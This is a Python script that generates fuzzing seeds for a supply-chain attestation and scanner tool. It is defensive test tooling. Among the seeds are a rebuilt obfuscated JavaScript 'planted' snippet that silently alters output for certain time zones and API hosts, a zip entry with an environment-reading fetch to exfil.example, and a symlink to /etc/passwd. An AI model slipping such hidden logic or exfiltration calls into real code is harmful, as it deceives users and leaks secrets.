#!/usr/bin/env python3
"""Fill fuzz/corpus/<target>/ with seeds from the repository's fixtures.

Nothing here is committed: the corpora are generated at every run (fuzz/run.sh calls
this) from what the repository already holds, so they follow the fixtures as they
change. Sources:

- files: examples/, attestations/, schemas/, the CLI's templates;
- test inputs written inline in crates/*/tests/ and tests/e2e/ (every raw string
  literal, r"…" / r#"…"#, that reads as JSON or TOML);
- the payloads of DSSE envelopes and bundles (Statements for the `statement` target);
- the Sigstore conformance vectors, read where they are (never copied into the
  repository): $CANDOR_CONFORMANCE_DIR, or ../shared/vectors/sigstore-conformance/
  beside the checkout, as tests/e2e/sigstore_conformance.rs finds them;
- for the scanner targets: the sample release's files, the hidden logic of
  crates/candor-test (its `planted()`, rebuilt here) in minified filler, and tar, tgz,
  gz and zip archives of them (a zip holding a tgz too) made here, hostile ones
  included (a tgz of several gzip members and trailing garbage, a zip naming an entry
  twice, a tar holding a path twice, tars with data after their end-of-archive marker,
  tars holding an executable whose section table is past the end of the file, too long,
  or absent);
- for getenv_callsites: small x86-64 ELF executables of the system (/bin/ls …, at most
  MAX_ELF_BYTES each) copied at run time, and three tiny programs calling getenv (PIE,
  non-PIE, -fno-plt) compiled here with `cc` (the linker cargo uses), when it works,
  and the smallest of them with its section table made unusable (as above);
- for verify_policy_rules: the endpoints of the examples' claims and the patterns of the
  example policy, one endpoint and its patterns per seed.

fuzz/seeds/<target>/ (committed: inputs signed with the fuzz key, and every crash the
fuzzer found, named after the bug) is not copied: run.sh hands it to libFuzzer as a
second, read-only corpus directory.

Each seed is written under the SHA-1 of its content, as libFuzzer names the inputs it
adds, so running this again adds nothing twice. A target this script does not know gets
no generated seeds (only fuzz/seeds/<target>/, if any): add it to SOURCES.

Usage: seed_corpora.py [TARGET...]   (default: every target in SOURCES)
"""

import base64
import binascii
import gzip
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import tomllib
import warnings
import zipfile
from pathlib import Path

FUZZ_DIR = Path(__file__).resolve().parent
REPO = FUZZ_DIR.parent
CORPUS = FUZZ_DIR / "corpus"

# libFuzzer's -max_len for JSON and TOML targets (run.sh): longer seeds would only be
# cut short.
MAX_SEED_BYTES = 64 * 1024


def conformance_dir():
    given = os.environ.get("CANDOR_CONFORMANCE_DIR")
    path = Path(given) if given else REPO.parent / "shared/vectors/sigstore-conformance"
    return path if path.is_dir() else None


def repo_files(*patterns):
    for pattern in patterns:
        yield from sorted(REPO.glob(pattern))


def raw_string_literals():
    """Every raw string literal in the integration tests, unescaped as Rust reads it."""
    literal = re.compile(r'(?<![A-Za-z0-9_])b?r(#*)"(.*?)"\1', re.S)
    for path in repo_files("crates/*/tests/**/*.rs", "tests/e2e/**/*.rs"):
        for match in literal.finditer(path.read_text(encoding="utf-8")):
            yield match.group(2).encode()


def is_json(data):
    try:
        json.loads(data)
    except ValueError:
        return False
    return data.lstrip()[:1] in (b"{", b"[")


def is_toml(data):
    try:
        return bool(tomllib.loads(data.decode()))
    except (tomllib.TOMLDecodeError, UnicodeDecodeError):
        return False


def payload_of(envelope):
    """The decoded payload of a DSSE envelope (a dict), or None."""
    try:
        return base64.b64decode(envelope["payload"], validate=True)
    except (KeyError, TypeError, binascii.Error):
        return None


def json_documents(paths):
    for path in paths:
        try:
            yield path.read_bytes(), json.loads(path.read_bytes())
        except ValueError:
            continue


def conformance_bundles():
    root = conformance_dir()
    if root is None:
        return []
    return sorted(root.glob("**/*.sigstore.json"))


def envelope_files():
    return list(repo_files("attestations/**/*.dsse.json", "examples/**/*.dsse.json"))


def envelopes():
    """DSSE envelopes: the repository's, the ones inside conformance bundles, and the
    inline test inputs that have a payloadType."""
    for data, _ in json_documents(envelope_files()):
        yield data
    for _, bundle in json_documents(conformance_bundles()):
        if isinstance(bundle, dict) and isinstance(bundle.get("dsseEnvelope"), dict):
            yield json.dumps(bundle["dsseEnvelope"], indent=2).encode()
    for data in raw_string_literals():
        if b"payloadType" in data:
            yield data


def bundles():
    yield from (
        path.read_bytes()
        for path in repo_files(
            "examples/**/*.sigstore.json",
            "attestations/**/*.sigstore.json",
            "crates/*/tests/**/*.sigstore.json",
            "tests/**/*.sigstore.json",
        )
    )
    yield from (path.read_bytes() for path in conformance_bundles())


def statements():
    yield from (path.read_bytes() for path in repo_files("examples/*.statement.json"))
    for path in (envelope_files(), FUZZ_DIR.glob("seeds/dsse_envelope/*")):
        for _, envelope in json_documents(path):
            if isinstance(envelope, dict) and (payload := payload_of(envelope)):
                yield payload
    for _, bundle in json_documents(conformance_bundles()):
        envelope = bundle.get("dsseEnvelope") if isinstance(bundle, dict) else None
        if isinstance(envelope, dict) and (payload := payload_of(envelope)):
            yield payload
    root = conformance_dir()
    if root is not None:
        yield from (path.read_bytes() for path in sorted(root.glob("**/statement.json")))
    for data in raw_string_literals():
        if b"predicateType" in data or b"in-toto" in data:
            yield data


# Two `[[subject]]` tables (as `candor manifest statement` would add them): no fixture
# file has one, and the subject rules of a declaration are only reached through them.
SUBJECTS = (
    '\n[[subject]]\nname = "pkg:npm/%40acme/agent@1.4.0"\n'
    f'digest = {{ sha256 = "{"ab" * 32}", sha512 = "{"cd" * 64}" }}\n'
    '\n[[subject]]\nname = "pkg:generic/agent-linux-x64@1.4.0"\n'
    f'digest = {{ sha256 = "{"ef" * 32}" }}\n'
).encode()


def toml_documents():
    """Every TOML fixture: declarations and policies go to both targets, since a
    policy's tables are a declaration's unknown fields and the other way round. Each
    declaration comes also with subjects."""
    for path in repo_files("examples/**/*.toml", "crates/candor-cli/templates/*.toml"):
        yield path.read_bytes()
        if path.name == "candor.toml":
            yield path.read_bytes() + SUBJECTS
    yield from (data for data in raw_string_literals() if is_toml(data))


def any_json():
    yield from (path.read_bytes() for path in repo_files("examples/**/*.json"))
    yield from (path.read_bytes() for path in repo_files("schemas/*.json"))
    yield from envelopes()
    yield from bundles()
    yield from statements()
    yield from (data for data in raw_string_literals() if is_json(data))
    root = conformance_dir()
    if root is not None:
        yield from (path.read_bytes() for path in sorted(root.glob("**/trusted_root*.json")))


# --- the scanner targets ----------------------------------------------------------------

# The hidden logic of crates/candor-test/src/bundle.rs (`planted()`): the domain list
# XOR 0x5b, base64-encoded, behind a time-zone check and a base-URL read.
PLANTED_DOMAINS = ["jd.com", "taobao.com", "cn-shanghai.fcapp.run", "baidu.com", "qq.com",
                   "aliyuncs.com"]


def planted():
    blob = base64.b64encode(bytes(b ^ 0x5B for b in ",".join(PLANTED_DOMAINS).encode()))
    return (
        "const tz=Intl.DateTimeFormat().resolvedOptions().timeZone;"
        "const h=new URL(process.env.ANTHROPIC_BASE_URL||\"https://api.anthropic.com\").hostname;"
        f"const L=atob(\"{blob.decode()}\").split(\"\").map(c=>String.fromCharCode(c.charCodeAt(0)^91))"
        ".join(\"\").split(\",\");"
        "if([\"Asia/Shanghai\",\"Asia/Urumqi\"].includes(tz)&&L.some(d=>h.endsWith(d))){"
        "t=t.replace(/'/g,\"\\u02BC\").replace(/(\\d{4})-(\\d{2})-(\\d{2})/,\"$1/$2/$3\")}"
    ).encode()


def bundle():
    """A small minified bundle with the hidden logic in the middle, and the other
    encodings the decoders read (hex, escapes, char codes)."""
    filler = b'"use strict";var e=this&&this.__importDefault||function(e){return e&&e.__esModule?e:{default:e}};'
    extra = (
        b'h="68747470733a2f2f6a642e636f6d";s="\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f";'
        b'c=String.fromCharCode(104,116,116,112,115,58,47,47,106,100,46,99,111,109);'
        b'u="\\u{1F600}\\u02BC\\ud83d\\ude00";'
    )
    return filler * 4 + planted() + extra + filler * 4


def release_files():
    """(name, bytes) of the sample release and the bundle."""
    files = [(f"package/{p.name}", p.read_bytes())
             for p in repo_files("examples/sample-release/*.js")]
    files.append(("package/dist/cli.js", bundle()))
    files.append(("package/package.json", b'{"name":"@acme/agent","version":"1.4.0","bin":"dist/cli.js"}\n'))
    return files


def make_tar(files, fmt=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tar:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("package/link.js")
        link.type, link.linkname, link.mtime = tarfile.SYMTYPE, "../../etc/passwd", 0
        tar.addfile(link)
    return out.getvalue()


def make_zip(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
        z.writestr(zipfile.ZipInfo("README", (1980, 1, 1, 0, 0, 0)), b"stored\n", zipfile.ZIP_STORED)
    return out.getvalue()


def gz(data):
    return gzip.compress(data, mtime=0)


def gz_members(data, pieces=3):
    """`data` as a gzip stream of several members (`cat a.gz b.gz …`): the pieces are
    cut anywhere, as the members of one stream decompress to their contents in a row."""
    step = max(1, -(-len(data) // pieces))
    return b"".join(gz(data[i:i + step]) for i in range(0, len(data), step))


def make_zip_duplicates(files):
    """A zip whose central directory names an entry twice (and once more as `./…`)."""
    out = io.BytesIO()
    name, _ = files[0]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name, and writes it
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for entry, data in files:
                z.writestr(zipfile.ZipInfo(entry, (1980, 1, 1, 0, 0, 0)), data,
                           zipfile.ZIP_DEFLATED)
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)),
                       b"process.env.SECOND_COPY;fetch('https://exfil.example/collect')",
                       zipfile.ZIP_STORED)
            z.writestr(zipfile.ZipInfo("./" + name, (1980, 1, 1, 0, 0, 0)),
                       b"process.env.DOT_SLASH_COPY", zipfile.ZIP_DEFLATED)
    return out.getvalue()


# The first byte of a scan_archive input names the file (fuzz_targets/scan_archive.rs).
ARCHIVE_NAMES = {"x.tgz": 0, "x.tar": 1, "x.zip": 2, "x.js": 3}


def archives():
    files = release_files()
    tar = make_tar(files)
    tgz = gz(tar)
    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + tgz
    yield bytes([ARCHIVE_NAMES["x.tar"]]) + tar
    yield bytes([ARCHIVE_NAMES["x.tar"]]) + make_tar(files, tarfile.GNU_FORMAT)
    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz(make_tar(files, tarfile.PAX_FORMAT))
    yield bytes([ARCHIVE_NAMES["x.zip"]]) + make_zip(files)
    # Archives inside archives: an npm tarball in a zip, a zip in a tarball.
    yield bytes([ARCHIVE_NAMES["x.zip"]]) + make_zip([("agent-1.4.0.tgz", tgz)] + files[:1])
    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz(make_tar([("package/inner.zip", make_zip(files[:2]))]))
    # One compressed file; a highly compressible one (the ratio limits).
    yield bytes([ARCHIVE_NAMES["x.js"]]) + gz(bundle())
    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz(make_tar([("package/zeros.js", bytes(200_000))]))
    yield bytes([ARCHIVE_NAMES["x.zip"]]) + make_zip([("zeros.bin", bytes(200_000))])
    # Hostile shapes: a tarball in several gzip members with trailing garbage, a zip
    # naming an entry twice, a tar holding a path twice (and as ./path).
    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz_members(tar) + b"trailing garbage\n"
    yield bytes([ARCHIVE_NAMES["x.js"]]) + gz_members(bundle(), 2) + bytes(64)
    yield bytes([ARCHIVE_NAMES["x.zip"]]) + make_zip_duplicates(files)
    first, data = files[0]
    twice = files + [(first, b"process.env.SECOND_COPY"), ("./" + first, data[::-1])]
    yield bytes([ARCHIVE_NAMES["x.tar"]]) + make_tar(twice)
    # Data after the end-of-archive marker: `cat a.tgz b.tgz`, and a lone zero block.
    one, rest = make_tar(files[:1]), make_tar(files[1:])
    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz(one) + gz(rest)
    yield bytes([ARCHIVE_NAMES["x.tar"]]) + one[:one.index(bytes(1024))] + bytes(512) + rest
    # Plain files.
    for _, data in files:
        yield bytes([ARCHIVE_NAMES["x.js"]]) + data
    # Executables whose section table is missing or corrupt, as entries (an entry is
    # scanned as a native file: sections, else program headers, else the whole file).
    for name, data in corrupt_elfs():
        yield bytes([ARCHIVE_NAMES["x.tar"]]) + make_tar([(f"package/bin/{name}", data)])


def decoder_inputs():
    """A first byte (minimum decoded length 8, no needles of its own), then text."""
    for _, data in release_files():
        yield b"\x08" + data
    yield b"\x08" + planted()
    # With an own XOR needle (`acme`).
    yield b"\x48\x04acme" + bytes(b ^ 0x21 for b in b"https://api.acme.example,jd.com,qq.com")


# Small ELF executables of the system (getenv_callsites). Larger ones are left out:
# libFuzzer would cut them at the target's -max_len.
SYSTEM_ELFS = ["/bin/ls", "/usr/bin/env", "/usr/bin/id", "/usr/bin/locale", "/usr/bin/xargs",
               "/usr/bin/git", "/usr/bin/printenv", "/bin/true"]
MAX_ELF_BYTES = 256 * 1024

GETENV_C = b"""#include <stdlib.h>
extern char *secure_getenv(const char *);
int main(void) {
    const char *a = getenv("ACME_TOKEN");
    const char *b = getenv("HOME");
    const char *c = secure_getenv("ACME_BASE_URL");
    return (a != 0) + (b != 0) + (c != 0);
}
"""


def compiled_getenv():
    """The program above, as PIE, non-PIE and -fno-plt x86-64 executables; nothing when
    there is no working `cc` or it does not make x86-64 ELF."""
    cc = shutil.which("cc")
    if cc is None:
        return
    with tempfile.TemporaryDirectory() as work:
        source = Path(work) / "getenv.c"
        source.write_bytes(GETENV_C)
        for i, flags in enumerate([[], ["-no-pie", "-fno-pie"], ["-fno-plt"]]):
            out = Path(work) / f"getenv{i}"
            result = subprocess.run(
                [cc, "-Os", "-s", *flags, "-Wl,-z,noseparate-code", "-Wl,--build-id=none",
                 "-o", str(out), str(source)],
                capture_output=True, check=False)
            if result.returncode == 0 and out.is_file():
                yield out.read_bytes()


def elf_files():
    for path in map(Path, SYSTEM_ELFS):
        try:
            data = path.read_bytes()
        except OSError:
            continue
        if data[:4] == b"\x7fELF" and len(data) <= MAX_ELF_BYTES:
            yield data
    yield from compiled_getenv()


def corrupt_elfs():
    """The smallest ELF64 little-endian executable of `elf_files`, with its section table
    made unusable three ways (issue 15): `e_shoff` past the end of the file, a huge
    `e_shnum`, no table at all (`e_shoff` 0)."""
    elfs = sorted((d for d in elf_files() if d[4] == 2 and d[5] == 1), key=len)
    if not elfs:
        return
    data = elfs[0]

    def patched(shoff=None, shnum=None):
        out = bytearray(data)
        if shoff is not None:
            out[0x28:0x30] = shoff.to_bytes(8, "little")
        if shnum is not None:
            out[0x3C:0x3E] = shnum.to_bytes(2, "little")
        return bytes(out)

    yield "shoff-past-end", patched(shoff=len(data) + 0x1000)
    yield "huge-shnum", patched(shnum=0xFFFF)
    yield "no-sections", patched(shoff=0, shnum=0)


def elf_seeds():
    yield from elf_files()
    for _, data in corrupt_elfs():
        yield data


def endpoint_rows():
    """An endpoint, then the patterns to check it against, one per line."""
    policy = tomllib.loads((REPO / "examples/policy.toml").read_text(encoding="utf-8"))
    patterns = []

    def collect(value):
        if isinstance(value, dict):
            for key, inner in value.items():
                if key == "allowed_endpoints" and isinstance(inner, list):
                    patterns.extend(p for p in inner if isinstance(p, str))
                else:
                    collect(inner)
        elif isinstance(value, list):
            for inner in value:
                collect(inner)

    collect(policy)
    endpoints = []
    for path in repo_files("examples/**/*.toml"):
        for line in path.read_text(encoding="utf-8").splitlines():
            if match := re.match(r'\s*endpoint\s*=\s*"([^"]*)"', line):
                endpoints.append(match.group(1))
    endpoints += ["api.acme.example", "api.acme.example:8443", "https://API.acme.example:443/v1",
                  "https://api.acme.example@evil.example/", "https://evil.example/.acme.example/",
                  "10.0.0.1", "[2001:db8::1]"]
    host_patterns = ["*.acme.example", "*.acme.example:8443", "https://*.acme.example:8443/*"]
    for endpoint in endpoints:
        yield "\n".join([endpoint, *patterns, *host_patterns]).encode()


SOURCES = {
    "declaration": toml_documents,
    "dsse_envelope": envelopes,
    "getenv_callsites": elf_seeds,
    "policy": toml_documents,
    "scan_archive": archives,
    "scan_decoders": decoder_inputs,
    "sigstore_bundle": bundles,
    "statement": statements,
    "strict_json": any_json,
    "verify_policy_rules": endpoint_rows,
}

# Targets whose -max_len (in their source) is larger than MAX_SEED_BYTES.
MAX_SEED_BYTES_OF = {"getenv_callsites": MAX_ELF_BYTES, "scan_archive": 256 * 1024}


def seed(target):
    out = CORPUS / target
    out.mkdir(parents=True, exist_ok=True)
    added = 0
    for data in SOURCES[target]():
        if not data or len(data) > MAX_SEED_BYTES_OF.get(target, MAX_SEED_BYTES):
            continue
        path = out / hashlib.sha1(data).hexdigest()
        if not path.exists():
            path.write_bytes(data)
            added += 1
    return added, sum(1 for _ in out.iterdir())


def main(targets):
    if conformance_dir() is None:
        print("seeds: no Sigstore conformance vectors (set CANDOR_CONFORMANCE_DIR); "
              "bundle seeds are the repository's only")
    for target in targets or sorted(SOURCES):
        if target not in SOURCES:
            print(f"seeds: {target}: no generated seeds (not in seed_corpora.py SOURCES)")
            continue
        added, total = seed(target)
        print(f"seeds: {target}: {total} inputs in fuzz/corpus/{target} ({added} new)")


if __name__ == "__main__":
    main(sys.argv[1:])
